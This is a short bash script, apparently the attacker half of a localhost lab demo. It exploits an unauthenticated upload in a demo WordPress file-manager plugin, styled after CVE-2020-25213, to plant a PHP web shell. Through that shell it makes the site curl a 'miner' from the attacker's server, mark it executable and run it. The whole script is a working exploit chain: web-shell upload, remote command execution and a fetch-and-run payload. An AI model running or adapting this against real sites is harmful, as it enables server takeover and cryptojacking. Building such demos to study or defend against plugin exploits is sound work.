#!/usr/bin/env bash
# The attacker (demo): exploits the unauthenticated upload of the demo plugin
# (CVE-2020-25213-style) to plant a PHP web shell, then uses it to make the site download
# the "miner" from the attacker's server (127.0.0.1:8000), make it executable and run it.
#   attack.sh [SITE]   (default http://127.0.0.1:8080)
set -euo pipefail
site="${1:-http://127.0.0.1:8080}"
here="$(cd "$(dirname "$0")" && pwd)"
plugin="$site/wp-content/plugins/dg-demo-file-manager"
echo "attacker: uploading a web shell through the plugin's unauthenticated connector"
curl -fsS -F "upload=@$here/shell.php" "$plugin/connector.php"
echo "attacker: telling the site to fetch and start the miner"
curl -fsS -G --data-urlencode \
    "c=cd /tmp && curl -s -o xmrig http://127.0.0.1:8000/miner && chmod +x xmrig && { ./xmrig 127.0.0.1 3333 ${MINER_SECONDS:-20} > /tmp/xmrig.log 2>&1 & sleep 1; }; echo site: miner launched" \
    "$plugin/files/shell.php"
